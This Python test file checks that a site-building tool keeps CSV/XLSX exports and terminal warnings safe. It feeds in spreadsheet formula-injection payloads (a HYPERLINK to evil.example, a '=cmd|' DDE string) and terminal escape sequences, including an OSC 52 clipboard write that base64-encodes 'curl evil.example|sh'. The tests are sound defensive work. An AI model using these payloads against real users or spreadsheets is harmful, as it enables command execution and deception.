"""Exports and messages that a file could turn against the reader (issue 22, items 4, 9 and
10): formulas in metrics.csv and in gaps.csv opened with another separator, terminal
control characters and whole files copied into warnings."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import run, write_files

FORMULA = ("=", "+", "-", "@", "\t", "\r")
SURVEY_SITE = {
    "content/personas/ana.md": "---\nname: Ana\n---\n",
    "content/touchpoints/phone.md": "---\ntitle: Phone\nchannel: phone\n---\n",
    "content/journeys/buy/index.md": "---\ntitle: Buying\npersona: ana\nobjective: Buy\n---\n",
    "content/journeys/buy/01-call.md": "---\ntitle: Call\n---\n",
}


def _survey(name: str, rows: str, file: str = "") -> dict[str, str | bytes]:
    front = f"file: {json.dumps(file)}\n" if file else ""
    return {f"content/surveys/{name}.md": f"---\ntitle: NPS\nmetric: nps\njourney: buy\n{front}"
                                          "columns: {stage: Etapa, score: Nota}\n---\n",
            f"content/surveys/{file or name + '.csv'}": rows.encode("utf-8")}


def _cells(text: str) -> list[str]:
    """Every cell as any reader may see it: split on `,` `;` tab `|` or lines, honouring
    quotes (csv) or not (a plain split), with the quotes taken off."""
    cells = []
    for delimiter in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            cells += row
        for line in text.splitlines():
            cells += [c.strip('"') for c in line.split(delimiter)]
    return cells


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_survey_named_like_a_formula_stays_text_in_metrics_csv(tmp_path: Path) -> None:
    """The issue's attack: a survey file named `=HYPERLINK(…).csv`."""
    name = '=HYPERLINK("https:;;evil.example";"x")'
    root = write_files(tmp_path / "site", {**SURVEY_SITE, **_survey(
        name, "Etapa,Nota\ncall,9\ncall,3\n")})
    result = run("build", str(root))
    assert result.exit_code == 0, result.output
    text = (root / "output/metrics.csv").read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in text
    bad = [c for c in _cells(text) if c.startswith(FORMULA) and not _number(c)]
    assert not bad, bad
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["survey"] == "'" + name and rows[0]["value"] == "0"  # numbers stay numbers


@pytest.mark.parametrize("title", [
    "Recibir;=cmd|' /C calc'!A0",  # the issue's: Spanish Excel splits on ";"
    "Recibir\t@SUM(1+1)",
    "Recibir|+cmd",
    "Recibir\n-2+3",
    'Recibir";=cmd|x',
])
def test_gaps_csv_is_formula_safe_whatever_the_separator(make_site, title: str) -> None:
    site = make_site({"content/journeys/buy/01-call.md":
                      "---\ntitle: Call\ntouchpoints: [phone]\nemotion: 1\ngaps:\n"
                      f"  - title: {json.dumps(title)}\n    actions:\n"
                      f"      - title: {json.dumps(title)}\n        owner: {json.dumps(title)}\n"
                      "---\n"})
    result = run("build", str(site))
    assert result.exit_code == 0, result.output
    text = (site / "output/gaps.csv").read_text(encoding="utf-8-sig")
    bad = [c for c in _cells(text) if c.startswith(FORMULA)]
    assert not bad, bad
    from openpyxl import load_workbook

    sheet = load_workbook(site / "output/gaps.xlsx").active
    titles = [c for c in sheet.iter_rows(min_row=2, values_only=True)][0]
    assert title in titles  # the workbook keeps the text as written, as a string cell
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row
               if c.value == title)  # a string cell, never a formula


OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"


@pytest.mark.parametrize("cell", [OSC52, "\x1b[2J\x1b[31mFAKE: ok\x1b[0m", "9\u202e01",
                                  "bad\r\ncontent/x.md:1: error: forged"])
def test_control_characters_in_cells_are_escaped_in_warnings(tmp_path: Path,
                                                             cell: str) -> None:
    rows = f'Etapa,Nota\ncall,9\ncall,"{cell}"\n'
    root = write_files(tmp_path / "site", {**SURVEY_SITE, **_survey("nps", rows)})
    result = run("build", str(root))
    assert "content/surveys/nps.csv:3: warning: score '" in result.output, result.output
    for char in ("\x1b", "\x07", "\u202e", "\r"):
        assert char not in result.output
    assert "\ncontent/x.md:1: error: forged" not in result.output
    assert "\\x1b" in result.output or "\\u202e" in result.output or "\\r\\n" in result.output


def test_a_file_name_with_control_characters_is_escaped_in_notes(tmp_path: Path) -> None:
    root = write_files(tmp_path / "site", {**SURVEY_SITE, **_survey(
        "nps\x1b]0;owned\x07", "Etapa,Nota\ncall,9\n")})
    result = run("build", str(root))
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "nps\\x1b]0;owned\\x07.csv: 1 rows read" in result.output, result.output


def test_warnings_quote_only_a_short_excerpt_of_a_cell(tmp_path: Path) -> None:
    """A file named as responses may hold anything (a key file, a config): its lines must
    not come back whole in a CI log."""
    secret = "ghp_" + "S3cr3tT0k3n" * 10
    rows = f"Etapa,Nota\ncall,{secret}\n{secret},9\n"
    root = write_files(tmp_path / "site", {**SURVEY_SITE, **_survey("nps", rows)})
    result = run("build", str(root))
    assert secret not in result.output
    assert f"score '{secret[:40]}…' is not a number" in result.output, result.output
    header = ",".join(f"{secret}{i}" for i in range(30)) + "\ncall\n"
    (root / "content/surveys/nps.csv").write_text(header, encoding="utf-8")
    result = run("build", str(root))
    assert secret not in result.output
    assert "and 10 more)" in result.output, result.output
